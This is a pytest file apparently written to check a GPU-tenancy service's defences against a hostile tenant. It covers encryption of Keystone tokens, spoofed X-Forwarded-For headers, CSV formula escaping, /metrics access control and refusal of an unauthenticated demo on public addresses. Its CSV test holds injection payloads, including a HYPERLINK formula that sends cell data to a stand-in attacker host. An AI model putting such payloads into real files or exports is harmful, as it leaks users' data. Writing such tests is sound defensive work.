"""What a hostile tenant, or anyone with a copy of the database or a route to
the port, must not get (issue 15): Keystone tokens at rest, a forged client
address, a formula in a CSV export, every project's GPU use from /metrics,
and noauth2 served to the network."""
from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys

import pytest
import yaml
from cryptography.fernet import Fernet
from sqlalchemy import text

from gpu_tenancy import cli
from gpu_tenancy.app import create_app
from gpu_tenancy.config import Config
from gpu_tenancy.csv_cells import safe_cell
from gpu_tenancy.dashboard import keystone_login
from tests.conftest import headers

SCOPED, UNSCOPED = "gAAAAA-scoped-keystone-token-42", "gAAAAA-unscoped-keystone-token-42"
QUOTA = {"quota": {"gpu_models": {"A100": {"gpus": 4, "max_duration": "P1D"}}}}
ADMIN = headers("ops", "admin", user="ops")


class FakeKeystone:
    """Stands where keystonemiddleware stands: the one scoped token it knows is
    a member of ml-vision; any other token is invalid."""

    def __init__(self, app):
        self.app = app

    def __call__(self, environ, start_response):
        known = environ.get("HTTP_X_AUTH_TOKEN") == SCOPED
        environ.update({"HTTP_X_IDENTITY_STATUS": "Confirmed" if known else "Invalid"})
        if known:
            environ.update({"HTTP_X_PROJECT_ID": "ml-vision", "HTTP_X_USER_ID": "alice",
                            "HTTP_X_ROLES": "member,reader"})
        return self.app(environ, start_response)


@pytest.fixture
def keystone(monkeypatch):
    """Keystone's answers for the dashboard login, and the tokens it was asked to revoke."""
    revoked = []
    monkeypatch.setattr(keystone_login, "password_login", lambda url, user, password, domain: keystone_login.Unscoped(
        UNSCOPED, "alice", "alice", [{"id": "ml-vision", "name": "ml-vision"}, {"id": "nlp-lab", "name": "nlp-lab"}],
        4_000_000_000))
    monkeypatch.setattr(keystone_login, "scope_to", lambda url, token, project: keystone_login.Scoped(
        SCOPED if token == UNSCOPED else "wrong", project, project, ["member", "reader"], 4_000_000_000))
    monkeypatch.setattr(keystone_login, "revoke", lambda url, token: revoked.append(token) or True)
    return revoked


def keystone_app(db_url, clock, cloud, keys):
    config = Config.load(database_url=db_url, auth_strategy="keystone", run_engine=False,
                         dashboard_keystone_url="http://127.0.0.1:9/v3", dashboard_token_keys=keys)
    app = create_app(config, clock=clock, cloud=cloud, start_engine=False)
    app.wsgi_app = FakeKeystone(app.wsgi_app._app)   # keystonemiddleware's inner app
    return app


def keystone_login_as_alice(client):
    page = client.get("/dashboard/login")
    assert page.status_code == 200, page.text
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    reply = client.post("/dashboard/login", data={"csrf_token": csrf, "username": "alice", "password": "pw"})
    assert reply.status_code == 302, reply.text


def raw_sessions(app) -> list[tuple]:
    with app.extensions["gpu_tenancy"].sessions() as s:
        return [tuple(row) for row in s.execute(text("SELECT * FROM dashboard_sessions"))]


# 7: Keystone tokens at rest

def test_the_sessions_table_holds_no_token_and_the_login_still_works(db_url, clock, cloud, keystone):
    key = Fernet.generate_key().decode()
    app = keystone_app(db_url, clock, cloud, [key])
    client = app.test_client()
    keystone_login_as_alice(client)
    [row] = raw_sessions(app)
    assert not any(token in str(row) for token in (SCOPED, UNSCOPED, SCOPED[7:], UNSCOPED[7:]))
    assert client.get("/dashboard/leases").status_code == 200   # the API got the scoped token in clear
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/dashboard/leases").text).group(1)
    client.post("/dashboard/project", data={"csrf_token": csrf, "project_id": "nlp-lab"})
    [row] = raw_sessions(app)                                   # rescoped with the unscoped token in clear
    assert "nlp-lab" in str(row) and SCOPED[7:] not in str(row) and SCOPED in keystone
    assert client.get("/dashboard/leases").status_code == 200
    keystone.clear()
    client.post("/dashboard/logout", data={"csrf_token": csrf})
    assert sorted(keystone) == sorted([SCOPED, UNSCOPED]) and raw_sessions(app) == []


def test_a_rotated_key_still_opens_the_logins_the_old_key_sealed(db_url, clock, cloud, keystone):
    old, new = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    client = keystone_app(db_url, clock, cloud, [old]).test_client()
    keystone_login_as_alice(client)
    rotated = keystone_app(db_url, clock, cloud, [new, old])
    again = rotated.test_client()
    again.set_cookie("gt_dashboard", client.get_cookie("gt_dashboard", path="/dashboard").value, path="/dashboard")
    assert again.get("/dashboard/leases").status_code == 200
    keystone_login_as_alice(rotated.test_client())            # a new login is sealed with the new key
    sealed = {r[0]: r for r in raw_sessions(rotated)}
    with rotated.extensions["gpu_tenancy"].sessions() as s:
        tokens = [t for (t,) in s.execute(text("SELECT token FROM dashboard_sessions ORDER BY created_at, id_hash"))]
    assert len(sealed) == 2 and sum(1 for t in tokens if _opens(new, t)) == 1
    assert sum(1 for t in tokens if _opens(old, t)) == 1


def _opens(key: str, sealed: str) -> bool:
    try:
        return Fernet(key).decrypt(sealed.encode()).decode() == SCOPED
    except Exception:
        return False


@pytest.mark.parametrize("stored", ["plain", "dropped key"])
def test_a_login_whose_token_does_not_open_is_logged_out(db_url, clock, cloud, keystone, stored):
    key = Fernet.generate_key().decode()
    app = keystone_app(db_url, clock, cloud, [key])
    client = app.test_client()
    keystone_login_as_alice(client)
    with app.extensions["gpu_tenancy"].sessions() as s, s.begin():
        value = SCOPED if stored == "plain" else Fernet(Fernet.generate_key()).encrypt(SCOPED.encode()).decode()
        s.execute(text("UPDATE dashboard_sessions SET token = :t"), {"t": value})
    reply = client.get("/dashboard/leases")
    assert reply.status_code == 302 and "/dashboard/login" in reply.headers["Location"]
    assert raw_sessions(app) == []


def test_without_token_keys_the_keystone_login_is_off_and_says_why(db_url, clock, cloud, keystone):
    client = keystone_app(db_url, clock, cloud, []).test_client()
    page = client.get("/dashboard/login")
    assert page.status_code == 503 and "dashboard_token_keys" in page.text
    assert client.get("/healthz").status_code == 200          # the API itself still serves


def test_a_token_key_that_is_not_a_fernet_key_is_refused_without_echoing_it(db_url):
    with pytest.raises(ValueError, match=r"dashboard_token_keys\[0\] is not a Fernet key") as raised:
        Config.load(database_url=db_url, dashboard_token_keys=["hunter2-secret"])
    assert "hunter2" not in str(raised.value)


# 8: X-Forwarded-For

def audited_address(client, **kw) -> str:
    assert client.put("/v1/quotas/ml-vision", json=QUOTA, headers={**ADMIN, **kw.pop("headers", {})},
                      **kw).status_code == 200
    return client.get("/v1/audit", headers=ADMIN).get_json()["audit_records"][-1]["remote_address"]


def test_without_trusted_proxies_a_forwarded_address_is_not_believed(client):
    assert audited_address(client, headers={"X-Forwarded-For": "203.0.113.7"},
                           environ_base={"REMOTE_ADDR": "192.0.2.1"}) == "192.0.2.1"


def test_with_one_trusted_proxy_the_address_it_added_is_recorded(config, request):
    config.trusted_proxies = 1
    client = request.getfixturevalue("client")
    # the caller wrote 6.6.6.6; the proxy (10.0.0.5) appended the address it saw
    assert audited_address(client, headers={"X-Forwarded-For": "6.6.6.6, 203.0.113.7"},
                           environ_base={"REMOTE_ADDR": "10.0.0.5"}) == "203.0.113.7"


def test_trusted_proxies_is_a_small_whole_number(db_url):
    for bad in (-1, True, "1", 11):
        with pytest.raises(ValueError, match="trusted_proxies"):
            Config.load(database_url=db_url, trusted_proxies=bad)


# 9: formulas in CSV

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]


def test_a_cell_is_escaped_when_a_spreadsheet_would_read_a_formula():
    assert [safe_cell(v) for v in ("\t=1", "\r=1", "=1", "a=b", "", None, -3, 2.5)] == [
        "'\t=1", "'\r=1", "'=1", "a=b", "", "", -3, 2.5]


def test_no_csv_cell_starts_a_formula(client):
    for n, name in enumerate(FORMULAS):
        reply = client.post("/v1/leases", json={"name": name, "shape": "a100.x1", "duration": "PT1H"},
                            headers=headers(user=FORMULAS[n]))
        assert reply.status_code == 201, reply.get_json()
    audit = client.get("/v1/audit?format=csv&action=lease.create", headers=ADMIN)
    audit_cells = [cell for row in csv.reader(io.StringIO(audit.text)) for cell in row]
    assert {f"'{f}" for f in FORMULAS} <= set(audit_cells)          # the user ids, escaped
    page = client.get("/dashboard/login").text
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    client.post("/dashboard/login", data={"csrf_token": csrf, "project": "ops", "user": "ops", "role_admin": "1"})
    export = client.get("/dashboard/admin/export/leases.csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert sorted(r["name"] for r in rows) == sorted(f"'{f}" for f in FORMULAS)
    assert sorted(r["user_id"] for r in rows) == sorted(f"'{f}" for f in FORMULAS)
    for cell in audit_cells + [c for r in rows for c in r.values()]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# 10: /metrics

def metrics_client(config, clock, cloud, **options):
    for name, value in options.items():
        setattr(config, name, value)
    return create_app(config, clock=clock, cloud=cloud, start_engine=False).test_client()


def test_metrics_are_for_admins_and_the_scrape_token_by_default(config, clock, cloud):
    client = metrics_client(config, clock, cloud, metrics_scrape_token="s" * 32)
    assert Config().metrics_public is False
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", headers=headers()).status_code == 403
    assert client.get("/metrics", headers={"Authorization": "Bearer " + "t" * 32}).status_code == 401
    assert client.get("/metrics", headers={"Authorization": "Basic " + "s" * 32}).status_code == 401
    assert client.get("/metrics", headers=headers("admin", "admin")).status_code == 200
    scraped = client.get("/metrics", headers={"Authorization": "Bearer " + "s" * 32})
    assert scraped.status_code == 200 and "gpu_tenancy_gpus" in scraped.text


def test_without_a_scrape_token_configured_no_bearer_opens_metrics(config, clock, cloud):
    client = metrics_client(config, clock, cloud)
    assert client.get("/metrics", headers={"Authorization": "Bearer "}).status_code == 401
    assert client.get("/metrics", headers={"Authorization": "Bearer None"}).status_code == 401


def test_metrics_public_opens_them_to_anyone(config, clock, cloud):
    assert metrics_client(config, clock, cloud, metrics_public=True).get("/metrics").status_code == 200


# 13: noauth2 fenced

@pytest.fixture
def no_serving(monkeypatch):
    """create_app stands for 'the demo would serve': it stops there."""
    class WouldServe(Exception):
        pass

    def refuse(*a, **kw):
        raise WouldServe
    monkeypatch.setattr("gpu_tenancy.app.create_app", refuse)
    return WouldServe


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.10", "demo.example.org"])
def test_the_demo_refuses_a_public_address_and_says_why(tmp_path, no_serving, capsys, host):
    assert cli.main(["demo", "--host", host, "--db", f"sqlite:///{tmp_path}/d.db"]) == 2
    said = capsys.readouterr().err
    assert "noauth2" in said and "--insecure-public" in said


def test_the_demo_listens_on_loopback_or_with_insecure_public(tmp_path, no_serving):
    for argv in (["--host", "127.0.0.1"], ["--host", "::1"], ["--host", "localhost"],
                 ["--host", "0.0.0.0", "--insecure-public"]):
        with pytest.raises(no_serving):
            cli.main(["demo", *argv, "--db", f"sqlite:///{tmp_path}/d.db"])


def load_wsgi(tmp_path, config: dict | None, **env) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith("GPU_TENANCY_")}
    if config is not None:
        (tmp_path / "api.yaml").write_text(yaml.safe_dump(config))
        base["GPU_TENANCY_CONFIG"] = str(tmp_path / "api.yaml")
    return subprocess.run([sys.executable, "-c", "import gpu_tenancy.wsgi"], env={**base, **env},
                          capture_output=True, text=True, timeout=120)


def test_the_production_entry_point_refuses_noauth2_unless_the_file_allows_it(tmp_path):
    db = f"sqlite:///{tmp_path}/w.db"
    by_env = load_wsgi(tmp_path, None, GPU_TENANCY_AUTH_STRATEGY="noauth2", GPU_TENANCY_DATABASE_URL=db)
    assert by_env.returncode != 0 and "allow_noauth2" in by_env.stderr
    both_by_env = load_wsgi(tmp_path, None, GPU_TENANCY_AUTH_STRATEGY="noauth2", GPU_TENANCY_DATABASE_URL=db,
                            GPU_TENANCY_ALLOW_NOAUTH2="true")
    assert both_by_env.returncode != 0 and "config file only" in both_by_env.stderr
    allowed = load_wsgi(tmp_path, {"database_url": db, "auth_strategy": "noauth2", "allow_noauth2": True})
    assert allowed.returncode == 0, allowed.stderr
